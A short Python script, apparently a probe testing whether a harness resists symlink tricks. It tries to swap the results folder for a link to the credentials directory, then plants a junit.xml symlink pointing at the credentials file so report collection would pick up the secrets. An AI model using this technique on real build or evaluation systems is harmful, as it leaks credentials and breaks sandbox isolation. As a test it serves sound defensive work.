# tries: exchange the folder of the reports for a link that leads to secrets
import errno, json, os

t = json.loads(os.environ["TARGETS"])
results = t["results"]
try:
    os.rename(results, results + ".old")
    os.symlink(os.path.dirname(t["credentials"]), results)
    print("held: the results were a link; an ordinary user's code can do that, and nothing is read behind it")
    os.remove(results)
    os.rename(results + ".old", results)
except OSError as e:
    print("held:", errno.errorcode[e.errno])
sub = results + "/sub"
os.symlink(os.path.dirname(t["credentials"]), sub)
os.symlink("sub/" + os.path.basename(t["credentials"]), results + "/junit.xml")
